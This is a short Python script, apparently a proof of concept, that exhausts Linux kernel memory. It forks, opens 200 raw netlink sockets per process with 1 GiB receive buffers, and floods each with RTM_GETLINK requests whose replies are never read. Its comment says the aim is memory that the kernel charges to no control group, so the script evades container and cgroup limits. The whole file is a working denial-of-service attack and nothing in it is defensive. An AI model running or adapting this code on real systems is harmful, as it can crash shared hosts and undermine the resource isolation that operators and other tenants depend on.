import os
import socket
import struct
import time

# Unread responses in sockets with queues of megabytes, which the kernel accounts to no group.
RTM_GETLINK, NLM_F_REQUEST, LOOPBACK = 18, 1, 1
header = struct.pack("=IHHII", 32, RTM_GETLINK, NLM_F_REQUEST, 1, 0)
request = header + struct.pack("=BBHiII", 0, 0, 0, LOOPBACK, 0, 0)
held = []

os.fork()
while len(held) < 200:
    sender = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW)
    sender.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 30)
    sender.setblocking(False)
    try:
        for _ in range(3_000):
            sender.send(request)
    except OSError:
        pass
    held.append(sender)
time.sleep(60)
